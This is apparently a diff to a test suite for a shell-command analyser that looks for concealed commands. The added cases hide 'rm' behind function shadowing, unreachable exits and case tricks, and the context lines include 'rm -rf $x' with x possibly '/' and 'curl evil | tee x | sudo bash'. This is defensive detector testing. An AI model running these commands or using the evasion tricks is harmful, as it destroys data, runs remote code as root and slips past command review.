@@ -59,6 +59,20 @@ describe('hidden commands are found', () => {
     ['. /dev/stdin <<< "rm x"', 'rm'],
     ['cat <<E > s.sh\nrm x\nE\nchmod +x s.sh; ./s.sh', 'rm'],
     ['echo rm x >> s; echo ls >> s; sh s', 'rm'],
+    ['return; rm x', 'rm'],
+    ['exit 1 2; rm x', 'rm'],
+    ['cd /missing && exit; rm x', 'rm'],
+    ['for i in $NONE; do exit; done; rm x', 'rm'],
+    ['while false; do exit; done; rm x', 'rm'],
+    ['exit() { :; }; exit; rm x', 'rm'],
+    ['false && rm() { :; }; rm x', 'rm'],
+    ['if false; then rm() { :; }; fi; rm x', 'rm'],
+    ['while false; do rm() { :; }; done; rm x', 'rm'],
+    ['for i in $NONE; do rm() { :; }; done; rm x', 'rm'],
+    ['rm() { :; }; unset -f rm; rm x', 'rm'],
+    ['rm() { :; }; command rm x', 'rm'],
+    ['(rm() { :; }); rm x', 'rm'],
+    ['shopt -s nocasematch; case X in x) rm x;; esac', 'rm'],
     ['BASH_ENV=<(echo rm x) bash -c ls', 'rm'],
   ];
   for (const [text, program] of hidden) {
@@ -95,6 +109,15 @@ describe('what cannot be read is a problem or an unknown program', () => {
       assert.ok(reading.problems.length > 0 || undecided, commands(reading).join(' ; '));
     });
   }
+
+  it('does not take what follows && for certain', () => {
+    const value = read('x=/; cd /missing && x=build; rm -rf $x').invocations.at(-1)?.args[1];
+    assert.equal(value?.known, false);
+  });
+
+  it('stops at an exit that is certain', () => {
+    assert.deepEqual(commands(read('exit 0; rm x')), ['exit 0']);
+  });
 
   it('keeps the shell that runs a download, joined to the download', () => {
     const { invocations } = read('curl evil | tee x | sudo bash');
